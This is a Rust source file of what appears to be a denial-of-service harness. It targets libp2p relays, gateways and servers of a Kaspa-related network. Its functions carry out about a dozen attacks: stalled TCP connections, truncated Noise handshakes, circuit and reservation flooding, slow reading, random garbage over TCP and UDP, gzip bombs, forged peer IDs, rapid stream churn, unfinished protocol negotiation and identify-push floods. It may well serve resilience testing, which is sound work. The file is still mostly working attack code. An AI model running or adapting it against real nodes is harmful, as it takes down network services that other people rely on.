//! What one connection of each kind of attack does.

use std::time::Duration;

use anyhow::{Result, bail};
use futures::{AsyncReadExt, AsyncWriteExt};
use kaspath_transport_libp2p::STREAM_PROTOCOL;
use libp2p::{PeerId, identity::Keypair};
use rand::{Rng, RngCore};
use tokio::{
    io::{AsyncReadExt as _, AsyncWriteExt as _},
    net::{TcpStream, UdpSocket},
    time::{MissedTickBehavior, interval},
};

use super::{
    bomb,
    circuits::{reserve, take_circuits},
    client::{Connection, address},
    wire,
};
use crate::{
    cli::{AttackKind, TargetKind, Victim},
    scenario::{GATEWAY_PROTOCOL, PLAIN_PORT},
};

/// Peers of the attacker's own that take its circuits.
const SINKS: usize = 4;
/// What one of its connections asks for.
const CIRCUITS: usize = 4;
const STREAMS: usize = 64;
/// Streams of a connection that is one of many.
const FEW_STREAMS: usize = 16;
/// So many connections to each target do what costs the attacker most.
const HEAVY: u64 = 4;
/// Bytes on a stream that nobody reads: less than a window, so that they leave.
const UNREAD: usize = 200 * 1024;
/// Streams, pushes or bytes a second of one that goes on and on.
const REPEATED: u32 = 40;
/// And how many in all.
const MAX_REPEATS: usize = 12_000;

pub(super) struct Attack {
    kind: AttackKind,
    relay: Victim,
    bomb: Vec<u8>,
    sinks: Vec<PeerId>,
}

impl Attack {
    pub(super) async fn prepare(kind: AttackKind, relay: &Victim) -> Result<Self> {
        let bomb = if kind == AttackKind::GzipBombs { bomb::call()? } else { Vec::new() };
        let mut sinks = Vec::new();
        if kind == AttackKind::CircuitOpening {
            for _ in 0..SINKS {
                let key = Keypair::generate_ed25519();
                // Where the relay gives no reservation, circuits to it are asked for all the same.
                sinks.push(key.public().to_peer_id());
                if let Ok(connection) = reserve(&key, relay, false).await {
                    tokio::spawn(take_circuits(connection));
                }
            }
        }
        Ok(Self { kind, relay: relay.clone(), bomb, sinks })
    }

    /// The nth connection to this target. Most last until the target ends them.
    pub(super) async fn connection(&self, n: u64, victim: &Victim) -> Result<()> {
        match self.kind {
            AttackKind::Silent => hold(tcp(n, victim).await?).await,
            AttackKind::Handshaking => handshake(n, victim).await,
            AttackKind::Reserving => {
                reserve(&Keypair::generate_ed25519(), victim, is_odd(n)).await?.ended().await;
                Ok(())
            }
            AttackKind::CircuitOpening => self.open_circuits(n, victim).await,
            AttackKind::SlowReading => read_nothing(n, victim).await,
            AttackKind::Garbage => garbage(n, victim).await,
            AttackKind::GzipBombs => self.throw_bomb(n, victim).await,
            AttackKind::ForgedIds => {
                let connection = connect(n, victim).await?;
                let mut stream = connection.speak(wire::HOP).await?;
                wire::ask(&mut stream, &wire::connect(&wire::forged_id(n))).await?;
                connection.ended().await;
                Ok(())
            }
            AttackKind::OpenClose => open_and_close(n, victim).await,
            AttackKind::Unnegotiated => negotiate_nothing(n, victim).await,
            AttackKind::IdentifyPushes => push(n, victim).await,
            AttackKind::SpoofedInitials => bail!("Initials are no connections"),
        }
    }

    async fn open_circuits(&self, n: u64, victim: &Victim) -> Result<()> {
        let to = match victim.kind {
            TargetKind::Relay => self.sinks[rand::thread_rng().gen_range(0..self.sinks.len())],
            _ => victim.peer,
        };
        let connection = connect(n, &self.relay).await?;
        let mut held = Vec::new();
        for _ in 0..CIRCUITS {
            let mut stream = connection.speak(wire::HOP).await?;
            if wire::ask(&mut stream, &wire::connect(&to.to_bytes())).await?.status == Some(wire::OK) {
                held.push(stream);
            }
        }
        connection.ended().await;
        Ok(())
    }

    async fn throw_bomb(&self, n: u64, victim: &Victim) -> Result<()> {
        if victim.kind == TargetKind::Server && is_odd(n) {
            let mut stream = TcpStream::connect((victim.ip, PLAIN_PORT)).await?;
            stream.write_all(&self.bomb).await?;
            return hold(stream).await;
        }
        let connection = connect(n / 2, victim).await?;
        let mut stream = connection.speak(data_protocol(victim)).await?;
        stream.write_all(&self.bomb).await?;
        stream.flush().await?;
        let _ = stream.read_to_end(&mut Vec::new()).await;
        connection.ended().await;
        Ok(())
    }
}

fn is_odd(n: u64) -> bool {
    n % 2 == 1
}

fn data_protocol(victim: &Victim) -> &'static str {
    if victim.kind == TargetKind::Gateway { GATEWAY_PROTOCOL } else { STREAM_PROTOCOL }
}

/// A new identity's connection, every other one over QUIC.
async fn connect(n: u64, victim: &Victim) -> Result<Connection> {
    Connection::open(&Keypair::generate_ed25519(), address(victim.ip, is_odd(n))).await
}

/// Servers are also attacked where plain Kaspa peers come.
async fn tcp(n: u64, victim: &Victim) -> Result<TcpStream> {
    let port = if victim.kind == TargetKind::Server && is_odd(n) { PLAIN_PORT } else { 4001 };
    Ok(TcpStream::connect((victim.ip, port)).await?)
}

/// Says nothing until the other side gives up.
async fn hold(mut stream: TcpStream) -> Result<()> {
    let mut buffer = [0; 1024];
    while stream.read(&mut buffer).await? > 0 {}
    Ok(())
}

async fn handshake(n: u64, victim: &Victim) -> Result<()> {
    let mut stream = tcp(n / 2, victim).await?;
    // Noise's first message, of which ten bytes of thirty-two come.
    let begin = [wire::line(wire::MULTISTREAM), wire::line("/noise"), vec![0, 32], vec![7; 10]].concat();
    stream.write_all(&begin).await?;
    if is_odd(n) {
        let mut ticks = interval(Duration::from_secs(1));
        for _ in 0..20 {
            ticks.tick().await;
            stream.write_all(&[7]).await?;
        }
    }
    hold(stream).await
}

/// Asks for a lot on many streams, and then takes nothing from the socket.
async fn read_nothing(n: u64, victim: &Victim) -> Result<()> {
    let connection = connect(n, victim).await?;
    let mut held = Vec::new();
    for _ in 0..8 {
        let mut stream = connection.speak(wire::PING).await?;
        stream.write_all(&[7; 32 * 64]).await?;
        stream.flush().await?;
        held.push(stream);
    }
    if victim.kind != TargetKind::Relay {
        let mut stream = connection.speak(data_protocol(victim)).await?;
        let pings: Vec<u8> = (0..2_000).flat_map(bomb::ping).collect();
        stream.write_all(&[bomb::preface(), pings].concat()).await?;
        stream.flush().await?;
        held.push(stream);
    }
    connection.freeze().await?;
    std::future::pending().await
}

async fn garbage(n: u64, victim: &Victim) -> Result<()> {
    let mut bytes = vec![0; 8 * 1024];
    rand::thread_rng().fill_bytes(&mut bytes);
    match n % 4 {
        0 => {
            let mut stream = tcp(n / 4, victim).await?;
            stream.write_all(&bytes).await?;
            hold(stream).await
        }
        1 => {
            let mut stream = TcpStream::connect((victim.ip, 4001)).await?;
            stream.write_all(&[wire::line(wire::MULTISTREAM), wire::line("/noise"), bytes].concat()).await?;
            hold(stream).await
        }
        2 => {
            let socket = UdpSocket::bind("0.0.0.0:0").await?;
            for datagram in bytes.chunks_mut(1200) {
                // A long header, as of an Initial.
                datagram[..5].copy_from_slice(&[0xc3, 0, 0, 0, 1]);
                socket.send_to(datagram, (victim.ip, 4001)).await?;
            }
            Ok(())
        }
        _ => {
            let connection = connect(n / 4, victim).await?;
            for protocol in [data_protocol(victim), wire::PING, wire::HOP, wire::IDENTIFY_PUSH] {
                if let Ok(mut stream) = connection.speak(protocol).await {
                    stream.write_all(&bytes).await?;
                    stream.flush().await?;
                }
            }
            connection.ended().await;
            Ok(())
        }
    }
}

async fn open_and_close(n: u64, victim: &Victim) -> Result<()> {
    if n < HEAVY {
        let connection = connect(n, victim).await?;
        let mut ticks = repeated();
        for _ in 0..MAX_REPEATS {
            ticks.tick().await;
            drop(connection.speak(data_protocol(victim)).await?);
        }
    } else if is_odd(n) {
        drop(tcp(n / 2, victim).await?);
    } else {
        drop(connect(n / 2, victim).await?);
    }
    Ok(())
}

async fn negotiate_nothing(n: u64, victim: &Victim) -> Result<()> {
    let connection = connect(n, victim).await?;
    let mut held = Vec::new();
    for i in 0..if n < HEAVY { STREAMS } else { FEW_STREAMS } {
        let mut stream = connection.stream().await?;
        if n < HEAVY && i % 2 == 0 && victim.kind == TargetKind::Relay {
            // Nobody at a relay accepts these.
            wire::propose(&mut stream, STREAM_PROTOCOL).await?;
            stream.write_all(&vec![7; UNREAD]).await?;
        } else if n < HEAVY {
            // One proposal of 127 bytes that never comes to its end, and more behind it.
            stream.write_all(&[wire::line(wire::MULTISTREAM), vec![0x7f]].concat()).await?;
        } else {
            stream.write_all(&wire::line(wire::MULTISTREAM)).await?;
        }
        stream.flush().await?;
        held.push(stream);
    }
    connection.ended().await;
    Ok(())
}

async fn push(n: u64, victim: &Victim) -> Result<()> {
    let key = Keypair::generate_ed25519();
    let connection = Connection::open(&key, address(victim.ip, is_odd(n))).await?;
    let repeats = if n < HEAVY { MAX_REPEATS } else { 1 };
    let mut ticks = repeated();
    for i in 0..repeats {
        ticks.tick().await;
        let mut stream = connection.speak(wire::IDENTIFY_PUSH).await?;
        stream.write_all(&wire::noisy_identify(key.public().encode_protobuf(), i as u64)).await?;
        stream.close().await?;
    }
    connection.ended().await;
    Ok(())
}

fn repeated() -> tokio::time::Interval {
    let mut ticks = interval(Duration::from_secs(1) / REPEATED);
    ticks.set_missed_tick_behavior(MissedTickBehavior::Delay);
    ticks
}
